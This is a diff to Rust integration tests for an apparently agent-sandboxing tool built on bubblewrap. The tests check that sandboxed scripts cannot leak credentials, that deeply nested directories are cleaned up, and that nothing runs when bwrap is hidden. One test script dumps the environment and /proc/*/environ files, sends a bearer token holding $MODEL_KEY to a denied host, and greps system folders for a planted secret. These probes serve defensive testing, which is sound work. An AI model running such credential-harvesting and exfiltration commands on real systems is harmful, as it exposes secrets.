@@ -244,8 +244,7 @@ fn a_sandbox_that_was_made_hard_to_remove_is_removed() {
     for user in users() {
         let Some(machine) = user() else { continue };
         let script = "cd /sandbox; mkdir -p locked/inner; touch locked/inner/f; chmod 0 locked/inner; chmod 500 locked
-            i=0; while [ $i -lt 400 ]; do mkdir ddddddddddddddddddddddd && cd ddddddddddddddddddddddd || break; i=$((i+1)); done
-            echo deep $i; exit 3";
+            perl -e 'for (1..400) { mkdir \"d\" x 24 or die; chdir \"d\" x 24 or die } print \"deep 400\\n\"'; exit 3";
         let agent = agent(&machine, "nest", "", script);
         let ran = launch(&machine, &agent, &[]).fails(3);
         assert!(ran.out.contains("deep 400"), "{}", ran.out);
@@ -421,7 +420,7 @@ fn a_credential_is_put_in_outside_and_is_nowhere_inside() {
              echo plain $(curl -s -o /dev/null -w %{{http_code}} -m 20 https://localhost:{port}/v1/../x --path-as-is)
              curl -s -m 20 -H \"Authorization: Bearer $MODEL_KEY\" https://denied.invalid/ || echo denied
              env; cat /proc/self/environ /proc/1/environ /proc/1/cmdline 2>/dev/null | tr '\\0' '\\n'
-             grep -rs planted- /sandbox /etc /tmp /run && echo FOUND; exit 0",
+             grep -rs 'planted-[0-9]' /sandbox /etc /tmp /run && echo FOUND; exit 0",
             port = server.port
         );
         let folder = agent(&machine, "asker", &more, &script);
@@ -458,18 +457,27 @@ fn a_credential_is_put_in_outside_and_is_nowhere_inside() {
 
 #[test]
 fn without_what_makes_a_sandbox_nothing_runs() {
+    let private = |script: &str| Command::new("unshare").args(["-m", "sh", "-c", script]).output();
+    if !private("mount --bind /dev/null /usr/bin/bwrap").is_ok_and(|output| output.status.success()) {
+        println!("SKIPPED: bwrap can't be hidden from a process here");
+        return;
+    }
     let machine = Machine::new();
     let agent = agent(&machine, "never", "", "echo RAN");
-    let empty = machine.folder("empty", &[]);
-    let args = ["launch", "--agent", &agent, "--trust", "go"];
-    let ran: Ran = machine.command(&args).env("PATH", &empty).output().unwrap().into();
-    let ran = ran.fails(3);
-    assert!(ran.err.contains("bubblewrap") && ran.err.contains("install") && !ran.out.contains("RAN"), "{}", ran.err);
-    // one that does nothing is no sandbox
-    let fake = machine.folder("fake", &[("bwrap", "#!/bin/sh\nexit 0\n")]);
-    std::os::unix::fs::chown(fake.join("bwrap"), None, None).unwrap();
-    Command::new("chmod").arg("755").arg(fake.join("bwrap")).status().unwrap();
-    let ran: Ran = machine.command(&args).env("PATH", &fake).output().unwrap().into();
-    assert!(ran.code != 0 && !ran.out.contains("RAN"), "{} {}", ran.code, ran.err);
-    assert_eq!(machine.run(&["runs", "--json"]).ok().out, "", "nothing ran, and nothing is remembered");
+    let plain = machine.command(&["launch", "--agent", &agent, "--trust", "go"]);
+    let words: Vec<String> = std::iter::once(plain.get_program())
+        .chain(plain.get_args())
+        .map(|word| format!("'{}'", word.to_str().unwrap()))
+        .collect();
+    for hide in ["mount --bind /dev/null /usr/bin/bwrap", "mount --bind /bin/true /usr/bin/bwrap"] {
+        let mut command = Command::new("unshare");
+        command.args(["-m", "sh", "-c", &format!("{hide} && exec {}", words.join(" "))]).env_clear();
+        command.envs(plain.get_envs().filter_map(|(name, value)| Some((name, value?))));
+        let ran: Ran = command.current_dir(machine.home.path()).output().unwrap().into();
+        assert!(ran.code == 3 && !ran.out.contains("RAN"), "{} {}", ran.code, ran.err);
+        assert!(ran.err.contains("bwrap") || ran.err.contains("bubblewrap"), "{}", ran.err);
+        assert_eq!(machine.run(&["runs", "--json"]).ok().out, "", "nothing ran, and nothing is remembered");
+        assert_eq!(std::fs::read_dir(machine.state().join("runs")).unwrap().count(), 0);
+    }
+    launch(&machine, &agent, &[]).ok();
 }
